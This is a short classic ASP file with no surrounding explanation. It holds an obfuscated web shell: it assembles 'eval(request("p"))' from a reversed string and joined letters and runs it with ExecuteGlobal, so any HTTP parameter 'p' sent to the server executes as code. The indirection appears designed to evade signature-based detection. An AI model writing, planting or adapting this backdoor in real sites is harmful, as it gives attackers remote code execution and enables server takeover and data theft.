<%
Dim a, b, c
a = StrReverse("lave")
b = Join(Array("r","e","q","u","e","s","t"), "")
c = a & "(" & b & "(""p""))"
ExecuteGlobal c
%>
